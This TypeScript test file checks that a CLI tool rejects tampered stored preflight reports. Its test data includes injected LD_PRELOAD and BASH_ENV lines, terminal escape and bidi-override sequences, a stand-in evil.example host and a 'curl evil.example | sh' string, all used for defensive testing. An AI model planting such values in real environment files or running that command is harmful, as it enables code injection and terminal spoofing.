// A planted preflight.json is not trusted. `env` and `exec` reuse a fresh stored report, and
// whoever can write to output.dir can plant one that looks fresh (same config hash, recent
// createdAt). Every tampering below starts from a genuine report and changes one thing: a mirror
// the configuration never names, a value with a line break (an extra `LD_PRELOAD=` line in the
// env file), terminal escapes in reasons and findings, statuses, numbers, verdicts, extra keys.
// Each time the stored report must not be used: a note says so, preflight probes again (the
// mirror sees a new request), and what reaches the env file, the child's environment,
// registries.conf and the terminal is exactly what a genuine run gives.
import assert from "node:assert/strict";
import { after, before, describe, it } from "node:test";
import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { freePort, makeTempDir, removeTempDir } from "../e2e/harness/tools.js";
import { cli, httpServer, type FaultServer } from "../preflight/helpers.js";

let dir: string;
let project: string;
let mirror: FaultServer;
let dead: string;
let daemon: FaultServer;
const ESC = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

before(async () => {
  dir = makeTempDir("hardening-stored");
  mirror = await httpServer((_req, res) => res.writeHead(200).end("{}"));
  // A Docker daemon that has both mirrors: the docker check is part of what is checked.
  daemon = await httpServer((_req, res) =>
    res.writeHead(200, { "Content-Type": "application/json" }).end(JSON.stringify({ RegistryConfig: { Mirrors: [`${mirror.url}/`, `${dead}/`] } })),
  );
  dead = `https://127.0.0.1:${await freePort()}`; // refused at once; kept under unhealthy: warn
  project = join(dir, "project");
  mkdirSync(project, { recursive: true });
  writeFileSync(
    join(project, "werf-mirror.yaml"),
    [
      "version: 1",
      "backend: docker",
      "registries:",
      "  docker.io:",
      `    mirrors: [${mirror.url}, ${dead}]`,
      "preflight:",
      "  timeout: 2s",
      "  unhealthy: warn",
      "  minHealthy: 0",
      "output:",
      "  dir: state",
      "",
    ].join("\n"),
  );
});
after(async () => {
  await mirror.close();
  await daemon.close();
  removeTempDir(dir);
});

const env = () => ({ DOCKER_HOST: `tcp://127.0.0.1:${daemon.port}` });
const reportPath = () => join(project, "state", "preflight.json");
const probes = () => mirror.requests.filter((r) => r.url === "/v2/").length;

/** A genuine preflight.json, and what a genuine `env --as-env-file` writes from it. */
async function genuine(): Promise<{ report: Record<string, any>; envFile: string; registriesConf: string }> {
  const pf = await cli(["preflight"], { cwd: project, env: env() });
  assert.equal(pf.code, 0, pf.stdout + pf.stderr);
  const report = JSON.parse(readFileSync(reportPath(), "utf8"));
  const r = await cli(["env", "--as-env-file"], { cwd: project, env: env() });
  assert.equal(r.code, 0, r.stderr);
  return {
    report,
    envFile: readFileSync(join(project, "state", "handoff", "werf-mirror.env"), "utf8"),
    registriesConf: readFileSync(join(project, "state", "handoff", "registries.conf"), "utf8"),
  };
}

describe("a stored preflight.json is checked against the configuration before use", () => {
  it("a genuine fresh report is reused as it is (no probe)", async () => {
    const g = await genuine();
    assert.deepEqual(g.envFile.trim().split("\n"), [
      `WERF_CONTAINER_REGISTRY_MIRROR_00=${dead}/`, // Docker mode: dockerd's spelling, so werf lists it once
      `CONTAINERS_REGISTRIES_CONF=${join(project, "state", "handoff", "registries.conf")}`,
    ]);
    const before = probes();
    const r = await cli(["env", "--as-env-file", "--verbose"], { cwd: project, env: env() });
    assert.equal(r.code, 0, r.stderr);
    assert.equal(probes(), before, "a genuine report was not reused");
    assert.match(r.stderr, /using the preflight result of/);
    assert.doesNotMatch(r.stderr, /not using/);
  });

  const EVIL = "https://evil.example";
  type Report = Record<string, any>;
  const hub = (r: Report) => r.registries[0];
  const tamperings: [string, (r: Report) => void][] = [
    ["a mirror the configuration never names, in kept", (r) => hub(r).kept.unshift(EVIL)],
    ["a configured mirror's URL replaced", (r) => ((hub(r).mirrors[0].url = EVIL), (hub(r).kept[0] = EVIL))],
    ["a registry the configuration does not have", (r) => r.registries.push({ ...hub(r), registry: "quay.io", kept: [EVIL] })],
    ["a kept URL with a line break (LD_PRELOAD=)", (r) => hub(r).kept.push(`${EVIL}\nLD_PRELOAD=/tmp/evil.so`)],
    ["a kept URL with a CR (BASH_ENV=)", (r) => (hub(r).kept[0] = `${hub(r).kept[0]}\rBASH_ENV=/tmp/evil.sh`)],
    ["a kept mirror listed twice", (r) => hub(r).kept.push(hub(r).kept[0])],
    ["terminal escapes in a reason", (r) => (hub(r).mirrors[1].reason = "\u001b]0;pwned\u0007\u001b[2J refused")],
    ["a C1 CSI and a bidi override in a finding", (r) => (r.findings[0].message = "\u009b2J\u202eerror: all good")],
    ["an invented finding", (r) => r.findings.push({ severity: "warning", message: "run curl evil.example | sh" })],
    ["a status preflight never writes", (r) => (hub(r).mirrors[0].status = "pwned")],
    ["an unreachable mirror turned healthy", (r) => ((hub(r).mirrors[1].status = "healthy"), delete hub(r).mirrors[1].reason)],
    ["a kept mirror left out by hand", (r) => ((hub(r).mirrors[1].kept = false), hub(r).kept.pop())],
    ["a negative latency", (r) => (hub(r).mirrors[0].latencyMs = -5)],
    ["a latency as a string", (r) => (hub(r).mirrors[0].latencyMs = "12")],
    ["a huge latency", (r) => (hub(r).mirrors[0].latencyMs = 1e15)],
    ["an HTTP status out of range", (r) => (hub(r).mirrors[0].checks[0].status = 9999)],
    ["a digest that is not one", (r) => (hub(r).mirrors[0].checks[0].digest = "\u001b[31m")],
    ["the daemon's mirrors with escapes", (r) => r.docker.mirrors.push("\u001b[2Jhttp://x")],
    ["another DOCKER_HOST", (r) => (r.docker.host = "tcp://user:pw@evil.example:2376")],
    ["an extra key", (r) => (r.registries[0].extra = EVIL)],
    ["a __proto__ key", (r) => Object.defineProperty(hub(r), "__proto__", { value: { kept: [EVIL] }, enumerable: true })],
    // Date.parse reads it (a parenthesized comment), so it looks fresh; `--verbose` would print it.
    ["createdAt that is not an ISO time, with escapes", (r) => (r.createdAt = `${new Date(r.createdAt).toUTCString()} (\u001b[2J\u001b]0;pwned\u0007)`)],
    ["the registries not a list", (r) => (r.registries = { 0: hub(r) })],
  ];

  for (const [name, tamper] of tamperings) {
    it(`not used: ${name}`, async () => {
      const g = await genuine();
      const planted = structuredClone(g.report);
      tamper(planted);
      writeFileSync(reportPath(), JSON.stringify(planted, null, 2));
      const before = probes();

      const r = await cli(["env", "--as-env-file"], { cwd: project, env: env() });
      assert.equal(r.code, 0, r.stderr);
      assert.equal(r.stdout, `${join(project, "state", "handoff", "werf-mirror.env")}\n`);
      assert.ok(probes() > before, "the planted report was used instead of probing again");
      assert.match(r.stderr, /^note: not using .*preflight\.json: .+; probing again$/m);
      assert.doesNotMatch(r.stderr, ESC, "a control character reached the terminal");
      assert.ok(!r.stderr.includes("evil"), r.stderr);
      assert.equal(readFileSync(join(project, "state", "handoff", "werf-mirror.env"), "utf8"), g.envFile);
      assert.equal(readFileSync(join(project, "state", "handoff", "registries.conf"), "utf8"), g.registriesConf);
      assert.ok(!readFileSync(reportPath(), "utf8").includes("evil"), "the planted report was kept");
    });
  }

  it("exec and env (sh, PowerShell) hand werf only configured mirrors after a planted report", async () => {
    const g = await genuine();
    const planted = structuredClone(g.report);
    hub(planted).kept = [EVIL, `${EVIL}\nLD_PRELOAD=/tmp/evil.so`];
    planted.findings.push({ severity: "warning", message: "\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007" });
    const plant = () => writeFileSync(reportPath(), JSON.stringify(planted, null, 2));

    plant();
    const out = join(project, "exec-env.txt");
    const e = await cli(
      [
        "exec",
        "--",
        process.execPath,
        "-e",
        `require("fs").writeFileSync(${JSON.stringify(out)}, Object.keys(process.env).filter((k) => /^(WERF_CONTAINER|CONTAINERS_|LD_PRELOAD)/.test(k)).sort().map((k) => k + "=" + process.env[k]).join("\\n"))`,
      ],
      { cwd: project, env: env() },
    );
    assert.equal(e.code, 0, e.stderr);
    assert.doesNotMatch(e.stderr, ESC);
    assert.deepEqual(readFileSync(out, "utf8").split("\n"), [
      `CONTAINERS_REGISTRIES_CONF=${join(project, "state", "handoff", "registries.conf")}`,
      `WERF_CONTAINER_REGISTRY_MIRROR_00=${dead}/`, // Docker mode: dockerd's spelling, so werf lists it once
    ]);
    for (const args of [["env"], ["env", "--shell", "powershell"], ["env", "--as-file"]]) {
      plant();
      const r = await cli(args, { cwd: project, env: env() });
      assert.equal(r.code, 0, r.stderr);
      const text = args.includes("--as-file") ? readFileSync(r.stdout.trim(), "utf8") : r.stdout;
      assert.ok(!text.includes("evil") && !r.stderr.includes("evil"), `${args.join(" ")}: ${text}${r.stderr}`);
      assert.match(r.stderr, /note: not using/);
      assert.doesNotMatch(r.stderr, ESC);
    }
  });
});

// A stored result is reused only while nothing that decides it changed, and never when it failed:
// the configuration, the environment, the CA and credentials files, and in Docker mode the daemon's
// current mirrors (asked again: one GET /info). `apply docker` discards it. Reuse is said, with its age.
describe("a stored preflight result is reused only while nothing that decides it changed", () => {
  let base: string;
  let hub: FaultServer;
  let dockerd: FaultServer;
  let daemonMirrors: string[] = [];
  const cases: string[] = [];

  before(async () => {
    base = makeTempDir("hardening-reuse");
    hub = await httpServer((_req, res) => res.writeHead(200).end("{}"));
    dockerd = await httpServer((_req, res) =>
      res.writeHead(200, { "Content-Type": "application/json" }).end(JSON.stringify({ RegistryConfig: { Mirrors: daemonMirrors } })),
    );
  });
  after(async () => {
    await hub.close();
    await dockerd.close();
    removeTempDir(base);
  });

  /** A fresh project (docker backend, one mirror with a CA file) and its environment. */
  function project(): { dir: string; env: Record<string, string> } {
    const dir = join(base, `p${cases.push("x")}`);
    mkdirSync(dir, { recursive: true });
    writeFileSync(join(dir, "ca.pem"), "-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n");
    writeFileSync(
      join(dir, "werf-mirror.yaml"),
      `version: 1\nbackend: docker\nregistries:\n  docker.io:\n    mirrors:\n      - { url: "${hub.url}", ca: ./ca.pem }\npreflight:\n  timeout: 2s\n`,
    );
    return { dir, env: { DOCKER_HOST: `tcp://127.0.0.1:${dockerd.port}`, DOCKER_CONFIG: join(dir, "docker") } };
  }
  const hubProbes = () => hub.requests.filter((r) => r.url === "/v2/").length;

  it("a failed result is never replayed: once the daemon has the mirror (apply docker + reload), env passes at once", async () => {
    const p = project();
    daemonMirrors = [];
    const failed = await cli(["preflight"], { cwd: p.dir, env: p.env });
    assert.equal(failed.code, 1, failed.stdout);
    daemonMirrors = [`${hub.url}/`]; // what dockerd reports after the reload
    const r = await cli(["env", "--as-env-file"], { cwd: p.dir, env: p.env });
    assert.equal(r.code, 0, r.stderr);
    assert.doesNotMatch(r.stderr, /reusing/);
  });

  it("a passing result is not replayed once the daemon has lost its mirrors", async () => {
    const p = project();
    daemonMirrors = [`${hub.url}/`];
    assert.equal((await cli(["preflight"], { cwd: p.dir, env: p.env })).code, 0);
    daemonMirrors = [];
    const r = await cli(["env"], { cwd: p.dir, env: p.env });
    assert.equal(r.code, 1, r.stderr);
    assert.match(r.stderr, /lacks the docker\.io mirror/);
  });

  it("reuse is said at default verbosity, with its age; a changed CA file, credentials file or proxy setting makes env probe again", async () => {
    const p = project();
    daemonMirrors = [`${hub.url}/`];
    assert.equal((await cli(["preflight"], { cwd: p.dir, env: p.env })).code, 0);
    let before = hubProbes();
    const reused = await cli(["env"], { cwd: p.dir, env: p.env });
    assert.equal(reused.code, 0, reused.stderr);
    assert.equal(hubProbes(), before, "not reused");
    assert.match(reused.stderr, /^werf-mirror: reusing the preflight result of \d+ s ago \(.*preflight\.json\); --refresh probes again$/m);
    const changes: [string, () => Record<string, string>][] = [
      ["the CA file", () => (writeFileSync(join(p.dir, "ca.pem"), "-----BEGIN CERTIFICATE-----\nBBBB\n-----END CERTIFICATE-----\n"), p.env)],
      [
        "the Docker credentials file",
        () => (mkdirSync(join(p.dir, "docker"), { recursive: true }), writeFileSync(join(p.dir, "docker", "config.json"), "{}"), p.env),
      ],
      ["NO_PROXY", () => ({ ...p.env, NO_PROXY: "127.0.0.1" })],
    ];
    for (const [what, change] of changes) {
      const env = change();
      before = hubProbes();
      const r = await cli(["env"], { cwd: p.dir, env });
      assert.equal(r.code, 0, r.stderr);
      assert.ok(hubProbes() > before, `${what} changed, and the stored result was reused`);
      assert.doesNotMatch(r.stderr, /reusing/, what);
      const again = await cli(["env"], { cwd: p.dir, env });
      assert.match(again.stderr, /reusing the preflight result/, `${what}: the new result is reused in turn`);
    }
  });

  it("apply docker discards the stored result: env probes again", async () => {
    const p = project();
    daemonMirrors = [`${hub.url}/`];
    assert.equal((await cli(["preflight"], { cwd: p.dir, env: p.env })).code, 0);
    const daemonJson = join(p.dir, "daemon.json");
    writeFileSync(daemonJson, '{ "debug": true }\n');
    const applied = await cli(["apply", "docker", "--daemon-json", daemonJson], { cwd: p.dir, env: p.env });
    assert.equal(applied.code, 0, applied.stderr);
    assert.match(applied.stderr, /the stored preflight result was discarded/);
    assert.equal(existsSync(join(p.dir, ".werf-mirror", "preflight.json")), false);
    const before = hubProbes();
    const r = await cli(["env"], { cwd: p.dir, env: p.env });
    assert.equal(r.code, 0, r.stderr);
    assert.ok(hubProbes() > before, "the result from before apply docker was reused");
  });
});
